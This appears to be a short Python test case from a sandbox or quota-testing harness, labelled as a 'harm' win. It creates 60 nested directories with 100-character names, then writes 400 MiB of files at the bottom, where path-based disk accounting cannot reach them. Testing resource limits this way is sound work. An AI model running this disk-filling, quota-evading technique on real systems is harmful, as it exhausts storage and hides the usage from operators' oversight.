"""Fills 400 MiB at the end of a path that is too long to be named, where whoever counts by paths does not get."""
# wins: harm
# %% first
import os
import time

for _ in range(60):
    attempt(os.mkdir, "d" * 100)
    attempt(os.chdir, "d" * 100)
for i in range(100):
    attempt(lambda: open(f"file{i}", "wb").write(bytes(4 << 20)))
time.sleep(1)
